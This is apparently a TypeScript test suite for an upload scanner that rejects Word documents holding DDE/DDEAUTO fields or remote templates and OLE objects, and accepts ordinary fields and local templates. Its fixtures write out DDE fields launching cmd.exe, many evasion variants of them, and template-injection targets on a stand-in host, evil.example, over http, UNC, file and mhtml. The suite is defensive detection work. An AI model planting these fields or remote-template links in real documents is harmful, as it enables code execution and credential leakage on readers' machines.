import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { examine } from "#server/testing/examine.ts";
import { paragraph, wordDocument } from "#server/testing/word-document.ts";

const instruction = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const field = (...instructions: string[]) =>
  `<w:p>${mark("begin")}${instructions.join("")}${mark("separate")}${mark("end")}</w:p>`;
const document = (body: string) => wordDocument(body);
const withPart = (name: string, content: string | Buffer) =>
  wordDocument(paragraph("x"), { parts: [{ name, content }] });
const part = (body: string) => `<w:hdr xmlns:w="w">${body}</w:hdr>`;
const wide = (text: string) => Buffer.from(`\ufeff${text}`, "utf16le");

describe("A field that starts a program is refused:", () => {
  const command = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';
  const cases: Record<string, Buffer> = {
    DDEAUTO: document(field(instruction(` DDEAUTO ${command}`))),
    DDE: document(field(instruction(`DDE ${command}`))),
    "in small letters": document(field(instruction(` ddeauto ${command}`))),
    "spread over several runs": document(
      field(instruction(" D"), instruction("DEA"), instruction("UTO"), instruction(` ${command}`)),
    ),
    "with an argument of another field": document(
      field(instruction(" DDE "), field(instruction(" REF c")), instruction(" x")),
    ),
    "within another field": document(
      field(instruction(" IF 1 = 1 "), field(instruction(` DDE ${command}`))),
    ),
    "in one element": document(
      `<w:p><w:fldSimple w:instr=" DDEAUTO ${command.replaceAll('"', "&quot;")}"/></w:p>`,
    ),
    "with character references": document(field(instruction(`&#68;&#x44;E ${command}`))),
    "with CDATA": document(field(instruction(`<![CDATA[DDE ${command}]]>`))),
    "without a beginning": document(`<w:p>${instruction(`DDE ${command}`)}</w:p>`),
    "behind much white space": document(
      field(instruction(" ".repeat(5_000)), instruction("DDE x")),
    ),
    "under another prefix": document(
      `<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:fldSimple x:instr="DDE x"/></x:p>`,
    ),
    "in a header": withPart("word/header1.xml", part(field(instruction(`DDEAUTO ${command}`)))),
    "in a footnote": withPart("word/footnotes.xml", part(field(instruction(`DDE ${command}`)))),
    "in UTF-16": withPart("word/header1.xml", wide(part(field(instruction("DDE x"))))),
    "behind two megabytes": document(
      paragraph("x".repeat(2_000_000)) + field(instruction("DDE x")),
    ),
  };
  for (const [what, bytes] of Object.entries(cases)) {
    test(what, async () => {
      assert.equal(await examine(bytes), "dde");
    });
  }
});

describe("Other fields and words are accepted:", () => {
  const cases: Record<string, string> = {
    "a page number": field(instruction(" PAGE ")),
    "a link to a page about DDE": field(
      instruction(' HYPERLINK "https://x/'),
      instruction('dde x"'),
    ),
    "a bookmark called DDE": field(instruction(" REF "), instruction("DDE ")),
    "a table of contents": field(instruction(' TOC \\o "1-3" ')),
    "text that speaks of DDE": paragraph("DDE and DDEAUTO"),
    "a field called DDEX": field(instruction(" DDEX ")),
  };
  for (const [what, body] of Object.entries(cases)) {
    test(what, async () => {
      assert.equal(await examine(document(body)), ".docx");
    });
  }
});

const relationTypes = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const strictTypes = "http://purl.oclc.org/ooxml/officeDocument/relationships";
const relation = (type: string, target: string, mode = "External") =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const template = (target: string, mode?: string) =>
  withPart(
    "word/_rels/settings.xml.rels",
    relation(`${relationTypes}/attachedTemplate`, target, mode),
  );
const object = (target: string) =>
  withPart("word/_rels/footnotes.xml.rels", relation(`${relationTypes}/oleObject`, target));

describe("A template or an object on another computer is refused:", () => {
  for (const target of [
    "http://evil.example/x.dotm",
    "https://evil.example/x.dotm",
    "HTTPS://evil.example/x.dotm",
    " https://evil.example/x.dotm",
    "&#104;ttp://evil.example/x.dotm",
    "\\\\evil.example\\share\\x.dotm",
    "//evil.example/share/x.dotm",
    "file://evil.example/share/x.dotm",
    "file:///\\\\evil.example\\share\\x.dotm",
    "file:////evil.example/share/x.dotm",
    "file:///%5C%5Cevil.example%5Cshare%5Cx.dotm",
    "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html",
    "ftp://evil.example/x.dotm",
  ]) {
    test(target, async () => {
      assert.equal(await examine(template(target)), "remoteTemplate");
      assert.equal(await examine(object(target)), "remoteObject");
    });
  }

  test("even in the strict format of docx and in other capitals", async () => {
    for (const type of [`${strictTypes}/attachedTemplate`, `${relationTypes}/ATTACHEDTEMPLATE`]) {
      const rels = relation(type, "https://evil.example/x.dotm", "external");
      assert.equal(await examine(withPart("word/_rels/settings.xml.rels", rels)), "remoteTemplate");
    }
  });
});

describe("A template on the reader's own computer is accepted:", () => {
  for (const target of [
    "file:///C:\\Users\\An\\Templates\\CV.dotx",
    "file:///C:/Users/An/CV%20m%E1%BA%ABu.dotx",
    "file:///Users/an/CV.dotx",
    "C:\\Templates\\CV.dotx",
    "Normal.dotm",
    "..\\CV.dotx",
  ]) {
    test(target, async () => {
      assert.equal(await examine(template(target)), ".docx");
    });
  }

  test("a template in the file, a link and a remote picture are accepted", async () => {
    assert.equal(await examine(template("https/x.dotm", "Internal")), ".docx");
    for (const type of ["hyperlink", "image"]) {
      const rels = relation(`${relationTypes}/${type}`, "https://portfolio.example/");
      assert.equal(await examine(withPart("word/_rels/header1.xml.rels", rels)), ".docx");
    }
  });
});
